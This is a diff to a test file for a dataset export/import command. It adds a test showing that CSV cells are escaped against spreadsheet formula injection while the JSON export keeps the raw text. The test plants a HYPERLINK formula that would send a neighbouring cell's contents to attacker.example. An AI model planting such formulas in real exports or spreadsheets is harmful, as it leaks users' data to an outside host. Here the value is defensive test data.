@@ -1,6 +1,7 @@
 """export_dataset / import_dataset: a full export restores every record and citation
 into an empty database, field by field."""
 
+import csv
 import datetime
 import io
 import json
@@ -122,6 +123,19 @@ def test_the_export_is_owner_only_and_has_a_csv_per_table(records, tmp_path):
     assert header.split(",")[:2] == ["id", "document_id"]
     data = json.loads((folder / JSON_NAME).read_text(encoding="utf-8"))
     assert len(data["tables"]["sources.citation"]["rows"]) == Citation.objects.count()
+
+
+def test_csv_cells_never_run_as_spreadsheet_formulas_but_json_keeps_the_text(tmp_path):
+    planted = '=HYPERLINK("https://attacker.example/?"&A2,"x")'
+    PersonFactory(name=planted, slug="planted")
+    folder = tmp_path / "dataset"
+    call_command("export_dataset", str(folder), stdout=io.StringIO())
+    with (folder / "prisoners_person.csv").open(encoding="utf-8", newline="") as source:
+        names = [row["name"] for row in csv.DictReader(source)]
+    assert names == ["'" + planted]
+    data = json.loads((folder / JSON_NAME).read_text(encoding="utf-8"))
+    person = data["tables"]["prisoners.person"]
+    assert person["rows"][0][person["columns"].index("name")] == planted
 
 
 def test_import_refuses_a_database_that_holds_records(records, tmp_path):
